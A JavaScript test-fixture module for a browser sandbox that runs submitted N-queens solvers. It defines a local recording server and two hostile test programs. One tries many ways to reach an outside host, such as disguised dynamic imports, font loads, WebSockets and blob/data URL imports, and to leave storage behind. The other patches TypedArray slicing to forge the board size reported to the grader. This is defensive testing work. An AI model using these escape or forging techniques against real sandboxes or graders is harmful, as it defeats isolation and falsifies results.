// Hostile programs for the box's tests (box.test.mjs, and the hand-ins of problem-sets.test.mjs):
// a server of the test's own on 127.0.0.1 (another port: another origin) that
// records every request, what storage a later tab finds under the names the
// programs use, a JavaScript program that tries every way out of the box, and
// one that forges its board size by patching %TypedArray%.prototype.slice.
import http from 'node:http';
import zlib from 'node:zlib';

/** A program as a link's src= carries it. */
export const pack = (program) => zlib.deflateRawSync(Buffer.from(program, 'utf8')).toString('base64url');

/** A server on 127.0.0.1 (another port: another origin) that records every request. */
export async function recordingServer() {
  const requests = [];
  const srv = http.createServer((req, res) => {
    requests.push(`${req.method} ${req.url}`);
    res.writeHead(200, { 'access-control-allow-origin': '*', 'content-type': 'text/javascript' });
    res.end('self.escaped = true;');
  });
  srv.on('upgrade', (req, socket) => { requests.push(`UPGRADE ${req.url}`); socket.destroy(); });
  await new Promise((resolve) => srv.listen(0, '127.0.0.1', resolve));
  srv.unref(); // a test that fails before its close must not keep the process alive
  return { base: `http://127.0.0.1:${srv.address().port}`, requests, close: () => new Promise((resolve) => srv.close(resolve)) };
}

/** What any storage of the page's origin holds under the names the programs use. */
export const leftovers = (page) => page.evaluate(async () => {
  const found = [];
  for (const db of await indexedDB.databases()) if (/escape/.test(db.name ?? '')) found.push(`indexedDB ${db.name}`);
  for (const key of await caches.keys()) if (/escape/.test(key)) found.push(`cache ${key}`);
  for (let i = 0; i < localStorage.length; i++) if (/escape/.test(localStorage.key(i) ?? '')) found.push(`localStorage ${localStorage.key(i)}`);
  if (navigator.storageBuckets) for (const b of await navigator.storageBuckets.keys()) found.push(`bucket ${b}`);
  const root = await navigator.storage.getDirectory();
  for await (const name of root.keys()) found.push(`file ${name}`);
  return found;
});

/** A JavaScript program (solve places one queen) that tries every way out to the server at `at`. */
export const ESCAPES = (at) => `function solve(n, board) {
  const at = ${JSON.stringify(at)};
  const tries = [
    () => import
      (at + '/import-newline.js'),
    () => import /* a comment */ (at + '/import-comment.js'),
    () => Function('u', 'return import(u)')(at + '/function.js'),
    () => new FontFace('f', 'url(' + at + '/font)').load(),
    () => { const f = new FontFace('g', 'url(' + at + '/fonts)'); self.fonts.add(f); return self.fonts.load('1em g'); },
    () => new WebSocketStream(at.replace('http', 'ws') + '/wss').opened,
    () => import(URL.createObjectURL(new Blob(['import(' + JSON.stringify(at + '/from-blob.js') + ')'], { type: 'text/javascript' }))),
    () => import('data:text/javascript,import(' + JSON.stringify(at + '/from-data.js') + ')'),
    () => navigator.storageBuckets.open('escape-bucket').then((b) => b.indexedDB.open('escape-db')),
    () => navigator.storage.getDirectory().then((d) => d.getFileHandle('escape-file', { create: true })),
  ];
  for (const attempt of tries) {
    try {
      const got = attempt();
      if (got && typeof got.catch === 'function') got.catch(() => {});
    } catch {}
  }
  board.place(0, 0);
}
`;

/** A JavaScript program that searches nothing and rewrites every board record it sends to N = 2. */
export const FORGED_SIZE = `const TA = Object.getPrototypeOf(Int32Array.prototype);
const slice = TA.slice;
TA.slice = function (...a) { const r = slice.apply(this, a); for (let i = 0; i < r.length; i += 4) if (r[i] === 6) r[i + 2] = 2; return r; };
function solve(n, board) {}
`;
